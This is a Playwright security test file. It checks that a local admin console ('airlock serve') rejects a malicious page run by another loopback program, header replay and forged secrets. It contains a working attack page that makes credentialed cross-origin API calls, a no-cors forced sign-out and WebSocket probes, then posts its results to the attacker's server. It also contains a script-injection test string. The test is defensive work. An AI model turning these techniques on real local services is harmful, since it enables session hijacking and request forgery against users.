/**
 * Issue 9, point 1, from the attacker's side in real Chromium: the console's session is usable by
 * the console's own page only. A second program listens on another loopback port (cookies ignore
 * ports, and other ports of 127.0.0.1 are the same site, so SameSite does not separate them): it
 * gets the user's browser to load its page, records every header the browser sends it, tries the
 * console's API and event socket from the page, then replays what it captured from a plain Node
 * process with the console's Host and no Origin. All of it must be refused. Whatever browser shell
 * project runs this, the console is `airlock serve` (the threat does not exist in Electron).
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from '@playwright/test';
import { chromiumAppFlags, LAUNCHER_NAME, writeLauncher } from '../../electron/shells/serve-launch';
import { callWith, openEvents } from '../support/serve';
import { ADMIN, expect, firstRunSetup, startServe, stop, test } from './fixtures';

interface Console {
  page: Page;
  port: number;
  url: string;
  browser: Browser;
  logs: string[];
  close(): Promise<void>;
}

const SECRET_KEY = 'airlock.secret';

/** A fresh `airlock serve` on a fresh data directory, and a Chromium that has NOT opened it yet. */
async function freshConsole(playwright: { chromium: { launch(o: object): Promise<Browser> } }, launchOptions: object): Promise<Omit<Console, 'page'> & { page: Page }> {
  const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-e2e-origin-'));
  const logs: string[] = [];
  const served = await startServe(dataDir, logs);
  const browser = await playwright.chromium.launch({ ...launchOptions, headless: true });
  const context = await browser.newContext({ viewport: { width: 1480, height: 900 } });
  const page = await context.newPage();
  page.on('pageerror', (e) => logs.push(`[pageerror] ${e.message}`));
  return {
    page,
    browser,
    logs,
    url: served.url,
    port: Number(new URL(served.url).port),
    close: async () => {
      await browser.close().catch(() => {});
      await stop(served.child);
      fs.rmSync(dataDir, { recursive: true, force: true });
      expect(logs.filter((l) => l.startsWith('[pageerror]'))).toEqual([]);
    },
  };
}

/** The page's secret as the page keeps it (the test's privileged view, for the controls). */
const secretOf = (page: Page) =>
  page.evaluate((k) => (globalThis as unknown as { sessionStorage: { getItem(k: string): string | null } }).sessionStorage.getItem(k), SECRET_KEY);

/** The other program: records every request's headers, serves a page that attacks the console. */
async function otherProgram(airlockPort: number) {
  const seen: http.IncomingHttpHeaders[] = [];
  let report: Record<string, string> | null = null;
  const page = `<!doctype html><meta charset="utf-8"><title>innocent local tool</title><img src="/pixel.png"><script>
(async () => {
  const A = 'http://127.0.0.1:${airlockPort}';
  const out = {};
  const body = (channel) => JSON.stringify({ channel, input: {} });
  try { const r = await fetch(A + '/api/call', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: body('hosts:list') }); out.call = 'answered ' + r.status + ' ' + (await r.text()); }
  catch (e) { out.call = 'failed ' + e.message; }
  try { const r = await fetch(A + '/api/call', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json', 'Airlock-Secret': 'guess' }, body: body('hosts:list') }); out.forged = 'answered ' + r.status; }
  catch (e) { out.forged = 'failed ' + e.message; }
  try { await fetch(A + '/api/call', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: body('session:logout') }); out.simple = 'sent'; }
  catch (e) { out.simple = 'failed ' + e.message; }
  try { const r = await fetch(A + '/api/session', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' }); out.session = 'answered ' + r.status + ' ' + (await r.text()); }
  catch (e) { out.session = 'failed ' + e.message; }
  out.ws = await new Promise((resolve) => {
    const got = [];
    let ws;
    try { ws = new WebSocket('ws://127.0.0.1:${airlockPort}/api/events'); } catch (e) { resolve('failed ' + e.message); return; }
    ws.onopen = () => { got.push('open'); ws.send(JSON.stringify({ secret: 'guess' })); };
    ws.onmessage = (m) => got.push(String(m.data));
    ws.onclose = (e) => resolve('closed ' + e.code + ' ' + JSON.stringify(got));
    setTimeout(() => resolve('still open ' + JSON.stringify(got)), 8000);
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
})();
</script>`;
  const server = http.createServer((req, res) => {
    seen.push(req.headers);
    let data = '';
    req.on('data', (c) => (data += c));
    req.on('end', () => {
      if (req.url === '/report') report = JSON.parse(data) as Record<string, string>;
      res.writeHead(200, { 'Content-Type': req.url === '/' ? 'text/html' : 'text/plain' }).end(req.url === '/' ? page : 'ok');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}/`,
    seen,
    report: () => report,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

test.describe('the console session is bound to the console page (issue 9.1)', () => {
  test('a page of another loopback program, and a process replaying what it captured, are refused', async ({ playwright, launchOptions }) => {
    const c = await freshConsole(playwright, launchOptions);
    const other = await otherProgram(c.port);
    try {
      await c.page.goto(c.url);
      await firstRunSetup(c.page);
      // The link's token left the address bar and the history as soon as the page read it (what
      // is left after the sign-in is the view's route, `#/<view>`).
      expect(c.page.url()).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${c.port}/(#/[a-z-]+)?$`));
      const secret = await secretOf(c.page);
      expect(secret).toMatch(/^[A-Za-z0-9_-]{43}$/);

      // The user is tricked into opening the other program's page in the same browser (same profile, same cookies).
      const evil = await c.page.context().newPage();
      await evil.goto(other.url);
      await expect.poll(() => other.report(), { timeout: 20_000 }).not.toBeNull();
      const report = other.report()!;
      // From the page: no answer can be read, no event socket authenticates.
      expect(report.call).toMatch(/^failed /);
      expect(report.forged).toMatch(/^failed /);
      expect(report.session).toMatch(/^failed /);
      expect(report.ws).not.toMatch(/auth/);
      expect(report.ws).toMatch(/^closed /);
      await evil.close();

      // What the other program captured holds nothing of the console's credential.
      expect(other.seen.length).toBeGreaterThanOrEqual(3);
      const captured = JSON.stringify(other.seen);
      expect(captured).not.toContain(secret!);
      expect(captured).not.toMatch(/airlock=/);

      // Replay from a local process: every header it captured, the console's Host, no Origin, plus
      // every header it can forge but the secret. Refused on the API and on the event socket.
      const own = { Host: `127.0.0.1:${c.port}` };
      for (const h of other.seen) {
        const replay: Record<string, string> = { ...own };
        for (const [k, v] of Object.entries(h)) {
          if (typeof v === 'string' && !['host', 'origin', 'content-length', 'connection', 'content-type', 'transfer-encoding'].includes(k)) replay[k] = v;
        }
        replay['Referer'] = `http://127.0.0.1:${c.port}/`;
        replay['Sec-Fetch-Site'] = 'same-origin';
        replay['X-Requested-With'] = 'XMLHttpRequest';
        for (const forged of [null, crypto.randomBytes(32).toString('base64url')]) {
          const r = await callWith(c.port, forged, 'users:list', {}, replay);
          expect(r.status, JSON.stringify(replay)).toBe(401);
          expect(r.body).not.toContain('"ok":true');
        }
        const ws = openEvents(c.port, crypto.randomBytes(32).toString('base64url'), replay);
        expect(await ws.authed).toBe(false);
        expect(await ws.closed).toBe(4401);
      }
      // The control: with the page's secret the same replay is served, so the refusals above are the secret's doing.
      const control = await callWith(c.port, secret, 'users:list', {});
      expect(JSON.parse(control.body)).toMatchObject({ ok: true });

      // The console page is still signed in (the no-cors sign-out never reached the core) and works.
      await c.page.getByTestId('nav-identity').click();
      await expect(c.page.getByTestId('identity-pubkey')).toHaveValue(/^ssh-ed25519 /);
      await expect(c.page.getByTestId('topbar-user')).toHaveText(ADMIN.name);
    } finally {
      await other.close();
      await c.close();
    }
  });

  test('sign-in rotates the page secret; the old one is dead; a reload keeps the session in that tab only', async ({ playwright, launchOptions }) => {
    const c = await freshConsole(playwright, launchOptions);
    try {
      await c.page.goto(c.url);
      await expect(c.page.getByTestId('setup-form')).toBeVisible();
      const beforeSetup = await secretOf(c.page);
      expect(beforeSetup).toMatch(/^[A-Za-z0-9_-]{43}$/);
      await firstRunSetup(c.page);
      const afterSetup = await secretOf(c.page);
      expect(afterSetup).not.toBe(beforeSetup);
      expect((await callWith(c.port, beforeSetup, 'session:status', {})).status).toBe(401);
      // The event socket was reopened with the new secret.
      await expect(c.page.getByTestId('shell-banner')).not.toContainText('disconnected');

      // Sign out and in again: another new secret.
      await c.page.getByTestId('signout').click();
      await expect(c.page.getByTestId('login-form')).toBeVisible();
      await c.page.getByTestId('login-name').fill(ADMIN.name);
      await c.page.getByTestId('login-password').fill(ADMIN.password);
      await c.page.getByTestId('login-submit').click();
      await expect(c.page.getByTestId('topbar-user')).toHaveText(ADMIN.name);
      const afterLogin = await secretOf(c.page);
      expect(afterLogin).not.toBe(afterSetup);
      expect((await callWith(c.port, afterSetup, 'session:status', {})).status).toBe(401);
      expect(JSON.parse((await callWith(c.port, afterLogin, 'session:status', {})).body)).toMatchObject({ ok: true, value: { user: { name: ADMIN.name } } });
      await c.page.getByTestId('nav-identity').click();
      await expect(c.page.getByTestId('identity-pubkey')).toHaveValue(/^ssh-ed25519 /);
      await expect(c.page.getByTestId('shell-banner')).not.toContainText('disconnected');

      // A reload keeps the session (sessionStorage: this tab, this origin and port).
      await c.page.reload();
      await expect(c.page.getByTestId('topbar-user')).toHaveText(ADMIN.name);
      // Another tab on the console's address has no session, and the used link gives it none.
      const second = await c.page.context().newPage();
      await second.goto(`http://127.0.0.1:${c.port}/`);
      await expect(second.getByTestId('boot-error')).toContainText('one-time link');
      await second.goto(c.url);
      await expect(second.getByTestId('boot-error')).toContainText('already used');
      expect(second.url()).not.toContain('token');
      await second.close();
    } finally {
      await c.close();
    }
  });

  test('the launcher opens the link without its token on the browser command line', async ({ playwright, launchOptions }) => {
    const c = await freshConsole(playwright, launchOptions);
    const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-chromium-'));
    try {
      const launcher = writeLauncher(profile, c.url);
      expect(launcher).toBe(path.join(profile, LAUNCHER_NAME));
      expect(fs.statSync(launcher).mode & 0o777).toBe(0o600);
      expect(fs.statSync(profile).mode & 0o777).toBe(0o700);
      const token = new URL(c.url).hash.slice('#token='.length);
      const flags = chromiumAppFlags(launcher, profile, false);
      expect(flags.join(' ')).not.toContain(token);
      expect(flags[0]).toBe(`--app=file://${launcher}`);
      // Refused: a directory other users can read, a second launcher over the first, a link that is not one.
      const open = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-open-'));
      fs.chmodSync(open, 0o755);
      expect(() => writeLauncher(open, c.url)).toThrow(/readable by other users/);
      fs.rmSync(open, { recursive: true });
      expect(() => writeLauncher(profile, c.url)).toThrow(/EEXIST/);
      expect(() => writeLauncher(profile, 'http://127.0.0.1:1/#token=a"><script>x</script>')).toThrow(/not an airlock serve link/);

      // Chromium follows the launcher to the console, which redeems the token.
      await c.page.goto(flags[0]!.slice('--app='.length));
      await expect(c.page.getByTestId('setup-form')).toBeVisible();
      expect(c.page.url()).toBe(`http://127.0.0.1:${c.port}/`);
      expect(await secretOf(c.page)).toMatch(/^[A-Za-z0-9_-]{43}$/);
    } finally {
      fs.rmSync(profile, { recursive: true, force: true });
      await c.close();
    }
  });
});
